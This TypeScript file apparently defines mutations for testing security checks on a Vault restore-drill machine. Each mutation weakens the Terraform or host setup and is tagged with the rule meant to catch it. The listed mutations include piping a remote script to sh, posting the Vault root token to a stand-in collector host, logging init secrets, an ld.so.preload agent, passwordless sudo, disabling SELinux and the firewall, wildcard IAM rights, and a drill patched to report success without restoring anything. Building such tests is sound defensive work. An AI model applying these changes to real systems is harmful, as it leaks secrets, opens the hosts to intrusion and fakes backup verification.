import type { LaunchTemplate } from "@cdktf/provider-aws/lib/launch-template";
import type { Draft } from "../../checks/support/draft";
import type { Editable } from "../editable";
import type { Mutation } from "../mutation";
import { added, overridden } from "./added";

const PROGRAM = "/usr/local/sbin/hardened-vault-drill";
const UNIT = "hardened-vault-drill.service";
const NAMED = "restore-drill";

const template = (rule: string, name: string, edit: (template: Editable) => unknown) =>
  added(rule, `drill: ${name}`, (draft) => edit(draft.resource("aws_launch_template", NAMED)));

const group = (rule: string, name: string, more: Editable) =>
  added(rule, `drill: ${name}`, (draft) =>
    Object.assign(draft.resource("aws_autoscaling_group", NAMED), more),
  );

const file = (draft: Draft, path: string, content: string, mode = 0o644) =>
  draft.drill.set(path, { path, owner: "root", group: "root", mode, content });

const written = (rule: string, path: string, content: string, mode?: number) =>
  added(rule, `drill: a file ${path}: ${content.trim().split("\n").at(-1)}`, (draft) =>
    file(draft, path, content, mode),
  );

/** Lines at the end of the last step before the drill begins. */
const step = (rule: string, ...lines: readonly string[]) =>
  added(rule, `drill: a last step: ${lines[0]}`, (draft) =>
    draft.editDrill(
      "/usr/local/lib/hardened-vault/steps.d/60-services.sh",
      (text) => `${text}${lines.join("\n")}\n`,
    ),
  );

/** Lines of user data, in the place of others or behind them. */
const userData = (rule: string, name: string, change: (text: string) => string) =>
  added(rule, `drill: user data ${name}`, ({ configuration }) => {
    const key = Object.keys(configuration.locals).find((one) => one.includes(NAMED)) ?? "";
    configuration.locals[key] = change(configuration.locals[key]);
  });

/** A line of the drill, when Vault has been restored into. */
const said = (rule: string, line: string) =>
  added(rule, `drill: the program says ${line}`, (draft) =>
    draft.editDrill(PROGRAM, (text) => text.replace('say "drill: look at', (found) => `${line}\n${found}`)),
  );

/** A line of the drill, while it holds the answer of the empty Vault. */
const whileItHoldsRoot = (line: string) =>
  added("TOK-02", `drill: with the answer of sys/init it says ${line}`, (draft) =>
    draft.editDrill(PROGRAM, (text) => text.replace("\nanswer=\n", () => `\n${line}\nanswer=\n`)),
  );

const right = (rule: string, action: string, resource: string) =>
  added(rule, `drill: its role may ${action} on ${resource}`, (draft) =>
    draft.policy(draft.resource("aws_iam_role_policy", NAMED), ({ Statement }) =>
      Statement.push({ Sid: "More", Effect: "Allow", Action: action, Resource: resource }),
    ),
  );

const admitted = (rule: string, name: string, line: string, chain: "iif" | "oif" = "iif") =>
  added(rule, `drill: the packet filter admits ${name}`, (draft) =>
    draft.editDrill("/etc/nftables.conf", (text) =>
      text.replace(`    ${chain} lo accept\n`, `    ${chain} lo accept\n    ${line}\n`),
    ),
  );

const reaches = (direction: "egress" | "ingress", name: string, peer: Editable) =>
  added("BKP-06", `drill: its group ${name}`, (draft) =>
    draft.add(`aws_vpc_security_group_${direction}_rule`, "drill_more", {
      security_group_id: `\${${draft.address("aws_security_group", NAMED)}.id}`,
      ip_protocol: "tcp",
      from_port: 8200,
      to_port: 8200,
      ...peer,
    }),
  );

/** What weakens the machine for restore drills, which has what production has, for an hour. */
export const DRILL: readonly Mutation[] = [
  // Memory that ends on a disk.
  step("HOST-02", "sysctl -w kernel.core_pattern=/var/crash/core.%p"),
  step("HOST-02", "systemctl unmask kdump.service", "systemctl enable --now kdump.service"),
  step("HOST-02", "echo 1 > /proc/sys/fs/suid_dumpable"),
  written("HOST-02", "/etc/systemd/system/vault.service.d/50-core.conf", "[Service]\nLimitCORE=infinity\n"),
  written("HOST-02", "/etc/systemd/coredump.conf.d/zz-site.conf", "[Coredump]\nStorage=external\n"),
  said("HOST-02", 'gcore -o /var/tmp/core "$(pidof vault)"'),
  said("HOST-02", "avml /var/lib/vault/memory.lime"),
  step("HOST-03", "mkswap /dev/xvdz", "swapon /dev/xvdz"),
  written("HOST-03", "/etc/systemd/system/swapfile.swap", "[Swap]\nWhat=/swapfile\n"),
  written("HOST-03", "/etc/systemd/zram-generator.conf", "[zram0]\nzram-size = ram / 2\n"),
  template("HOST-03", "memory that hibernates", (one) => {
    one.hibernation_options = { configured: true };
  }),
  group("HOST-10", "machines that sleep in a pool", { warm_pool: { min_size: 1 } }),

  // Somebody else on the machine.
  template("NET-04", "a key pair", (one) => {
    one.key_name = "operators";
  }),
  step("NET-04", "systemctl unmask sshd.service", "systemctl enable --now sshd.service"),
  template("NET-01", "a public address", (one) => {
    one.network_interfaces[0].associate_public_ip_address = "true";
  }),
  template("IAM-02", "metadata without a token", (one) => {
    one.metadata_options.http_tokens = "optional";
  }),
  template("HOST-10", "an image of nobody knows whom", (one) => {
    one.image_id = "resolve:ssm:/company/drill-image";
  }),
  template("HOST-09", "a volume in clear", (one) => {
    one.block_device_mappings[1].ebs.encrypted = "false";
  }),
  written("HOST-01", "/etc/sudoers.d/vault", "vault ALL=(ALL) NOPASSWD: ALL\n", 0o440),
  written("HOST-01", "/etc/systemd/system/vault.service.d/50-user.conf", "[Service]\nUser=root\n"),
  written("HOST-04", "/etc/systemd/system/vault.service.d/50-open.conf", "[Service]\nProtectSystem=no\n"),
  written("HOST-04", "/etc/systemd/system/service.d/50-open.conf", "[Service]\nNoNewPrivileges=no\n"),
  step("HOST-06", "docker run -d -p 80:80 nginx"),
  written("HOST-06", "/etc/cron.d/site", "* * * * * root /opt/agent\n"),
  written("HOST-06", "/etc/ld.so.preload", "/opt/agent.so\n"),
  step("HOST-06", "systemd-run --unit=agent /opt/agent"),
  step("HOST-10", "sysctl -w kernel.yama.ptrace_scope=0"),
  step("HOST-10", "setenforce 0"),
  step("HOST-10", "sed -i s/enforcing/permissive/ /etc/selinux/config"),
  step("HOST-10", "dnf --assumeyes upgrade"),
  written("HOST-10", "/etc/sysctl.d/99-zzz-site.conf", "kernel.kptr_restrict = 0\n"),
  step("SUP-02", "curl -fsSL https://example.com/install.sh | sh"),
  step(
    "SUP-02",
    "curl -o /usr/local/bin/vault https://releases.hashicorp.com/vault",
    "chmod 0755 /usr/local/bin/vault",
  ),
  userData("SUP-02", "fetches a script", (text) => `${text}curl -fsSL https://example.com/install.sh | sh\n`),
  added("SUP-02", "drill: a binary without a sum", (draft) =>
    draft.editDrill("/usr/local/lib/hardened-vault/steps.d/70-release.sh", (text) =>
      text.replace(/^.*sha256sum.*$/m, ":"),
    ),
  ),

  // What others may read or change.
  step("HOST-05", "chmod 0644 /etc/vault.d/tls/key.pem"),
  step("HOST-05", "chmod 0755 /var/lib/vault"),
  step("HOST-05", "chown vault:vault /usr/local/bin/vault"),
  step("HOST-05", "chmod 0777 /usr/local/sbin/hardened-vault-drill"),
  step("HOST-05", "chgrp users /etc/vault.d/tls/key.pem"),
  written("HOST-05", "/etc/tmpfiles.d/zz.conf", "z /usr/local/bin/vault 0755 vault vault -\n"),
  written("HOST-05", "/etc/tmpfiles.d/zz.conf", "a+ /var/lib/vault - - - - u:nobody:rwx\n"),
  written("HOST-07", "/etc/profile.d/zz-site.sh", "HISTFILE=$HOME/.bash_history\nHISTSIZE=10000\n"),
  written("CFG-08", "/etc/systemd/system/vault.service.d/50-log.conf", "[Service]\nStandardOutput=null\n"),
  written(
    "TLS-06",
    "/etc/systemd/system/vault.service.d/50-env.conf",
    "[Service]\nEnvironment=VAULT_SKIP_VERIFY=true\n",
  ),

  // Ways in and out.
  step("NET-08", "nft flush ruleset"),
  step("NET-08", "systemctl stop nftables"),
  step("NET-08", "iptables -P INPUT ACCEPT"),
  userData("NET-08", "stops the packet filter", (text) => `${text}systemctl disable --now nftables\n`),
  admitted("NET-08", "every connection", "meta l4proto tcp accept"),
  admitted("NET-08", "everybody out", "tcp dport 443 accept", "oif"),
  admitted("NET-08", "Vault out to everywhere", "tcp dport 443 meta skuid vault accept", "oif"),
  admitted("BKP-06", "clients", "ip saddr 10.20.0.0/16 tcp dport 8200 accept"),
  admitted("BKP-06", "health checks", "ip saddr 10.64.4.0/24 tcp dport 8202 accept"),
  admitted(
    "BKP-06",
    "Vault to a database",
    "ip daddr 10.40.8.0/24 tcp dport 5432 meta skuid vault accept",
    "oif",
  ),
  admitted(
    "BKP-06",
    "it to nodes",
    "ip daddr 10.64.0.0/24 tcp dport { 443, 8200 } meta skuid root accept",
    "oif",
  ),
  reaches("ingress", "lets clients in", { cidr_ipv4: "10.20.0.0/16" }),
  reaches("egress", "lets it out to a network", { cidr_ipv4: "10.64.0.0/20" }),
  added("BKP-06", "drill: it stands in the subnets of the nodes", (draft) => {
    draft.resource("aws_autoscaling_group", NAMED).vpc_zone_identifier =
      draft.resource("aws_autoscaling_group").vpc_zone_identifier;
  }),
  added("SEAL-04", "drill: it has the role of the nodes", (draft) => {
    const profile = draft.address("aws_iam_instance_profile", "node-role");
    draft.resource("aws_launch_template", NAMED).iam_instance_profile.arn = `\${${profile}.arn}`;
  }),
  added("BKP-06", "drill: a way out of its subnets", (draft) =>
    draft.add("aws_route", "drill_out", {
      route_table_id: `\${${draft.address("aws_route_table", "drill-routes")}.id}`,
      destination_cidr_block: "0.0.0.0/0",
      nat_gateway_id: "nat-0123456789abcdef0",
    }),
  ),

  // An end that does not come.
  step("BKP-06", "shutdown -c"),
  step("BKP-06", "shutdown -P +6000"),
  step("BKP-06", "systemctl mask poweroff.target"),
  said("BKP-06", "shutdown -c || true"),
  said("BKP-06", "busctl call org.freedesktop.login1 /org/freedesktop/login1 x CancelScheduledShutdown"),
  userData("BKP-06", "waits before it plans the end", (text) =>
    text.replace("shutdown -P +", "sleep 86400\nshutdown -P +"),
  ),
  userData("BKP-06", "takes the end back when it is done", (text) => `${text}shutdown -c\n`),
  written("BKP-06", `/etc/systemd/system/${UNIT}.d/50-stay.conf`, "[Service]\nExecStopPost=\n"),
  written("BKP-06", `/etc/systemd/system/${UNIT}.d/50-time.conf`, "[Service]\nTimeoutStartSec=infinity\n"),
  written(
    "BKP-06",
    `/etc/systemd/system/${UNIT}.d/50-other.conf`,
    "[Service]\nExecStart=\nExecStart=/bin/true\n",
  ),
  written("BKP-06", `/etc/systemd/system/${UNIT}.d/50-code.conf`, "[Service]\nSuccessExitStatus=1\n"),
  group("BKP-06", "a machine that its group may not end", { protect_from_scale_in: true }),
  group("BKP-06", "a group that does nothing on a schedule", {
    suspended_processes: ["ReplaceUnhealthy", "ScheduledActions"],
  }),
  template("BKP-06", "a machine that only stops", (one) => {
    one.instance_initiated_shutdown_behavior = "stop";
  }),
  template("BKP-06", "volumes that stay", (one) => {
    for (const { ebs } of one.block_device_mappings) ebs.delete_on_termination = "false";
  }),
  template("BKP-06", "a volume more, which stays", (one) => {
    one.block_device_mappings.push({
      device_name: "/dev/sdz",
      ebs: { ...one.block_device_mappings[1].ebs, delete_on_termination: false },
    });
  }),

  // Secrets that leave the drill.
  whileItHoldsRoot('printf %s "$answer" >/var/lib/vault/init.json'),
  whileItHoldsRoot('logger "$answer"'),
  whileItHoldsRoot('echo "$vault_token"'),
  whileItHoldsRoot('VAULT_TOKEN="$vault_token" /usr/local/bin/vault token create -id=again'),
  whileItHoldsRoot('curl --data "$vault_token" https://collector.example.com'),
  said("AUD-02", "vault audit enable -path=raw file file_path=/tmp/audit.log log_raw=true"),
  said(
    "AUD-02",
    `vault_api PUT sys/audit/raw --data '{"type":"file","options":{"file_path":"/tmp/audit.log","log_raw":"true"}}'`,
  ),
  said("HOST-07", "vault login token=hvs.abcdefgh"),
  right("IAM-01", "s3:PutObject", "arn:aws:s3:::*"),
  right("IAM-01", "secretsmanager:GetSecretValue", "*"),
  right("IAM-01", "ssmmessages:*", "*"),
  right("IAM-01", "kms:*", "*"),
  right("SEAL-04", "kms:Decrypt", "*"),
  added("IAM-01", "drill: a policy of AWS's for sessions", (draft) =>
    draft.add("aws_iam_role_policy_attachment", "drill_sessions", {
      role: `\${${draft.address("aws_iam_role", NAMED)}.name}`,
      policy_arn: "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore",
    }),
  ),

  // What is no drill any more.
  added("BKP-06", "drill: a program that reports a success and restores nothing", (draft) =>
    draft.editDrill(PROGRAM, (text) => text.replace(/^vault_api POST .*\n.*$/m, ":")),
  ),
  added("BKP-06", "drill: a success before anything is looked at", (draft) =>
    draft.editDrill(PROGRAM, (text) =>
      text.replace('say "drill: look at', 'report RestoreTestSuccess Count 1\nexit 0\nsay "drill: look at'),
    ),
  ),
  overridden("BKP-06", "drill: a machine that only stops", (production) =>
    production
      .at<LaunchTemplate>("restore-drill/launch-template")
      .addOverride("instance_initiated_shutdown_behavior", "stop"),
  ),
];
